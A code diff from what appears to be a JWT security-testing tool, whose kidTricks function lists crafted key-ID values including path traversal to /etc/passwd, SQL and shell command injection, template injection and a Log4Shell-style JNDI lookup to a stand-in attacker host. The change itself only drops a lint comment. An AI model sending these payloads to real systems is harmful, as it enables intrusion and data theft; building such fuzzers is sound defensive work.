@@ -158,7 +158,7 @@ export function kidTricks ({ pen, claims }: Target): TwistedToken[] {
   const { kid } = pen
   const kids: unknown[] = [
     'unknown', '', ' ', '/dev/null', '../../../../../../dev/null', '/proc/self/environ', 'file:///etc/passwd', 'https://attacker.test/key', '..\\..\\windows\\win.ini', '%2e%2e%2fkey', '.', '..',
-    "' OR '1'='1", "x' UNION SELECT 'secret' -- ", "'; DROP TABLE keys; --", '1', '%', '_', '*', '| id', '$(id)', '`id`', '; sleep 10', '{{7*7}}', '${jndi:ldap://attacker.test/a}', // eslint-disable-line no-template-curly-in-string -- an attack, not a template
+    "' OR '1'='1", "x' UNION SELECT 'secret' -- ", "'; DROP TABLE keys; --", '1', '%', '_', '*', '| id', '$(id)', '`id`', '; sleep 10', '{{7*7}}', '${jndi:ldap://attacker.test/a}',
     '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'length', '0', 'undefined', 'null', 'default',
     kid.toUpperCase(), kid.toLowerCase(), `${kid} `, ` ${kid}`, `${kid}\n`, `${kid}\u0000`, `${kid}\u0000.pem`, `${kid}=`, kid.slice(0, -1), `${kid}A`, `${kid},${kid}`, kid.normalize('NFKD') + '\u0301', 'k'.repeat(40), 'l'.repeat(5000),
     [kid], [[kid]], [], { kid }, { toString: kid }, null, true, false, 0, 1, -1, 1.5,
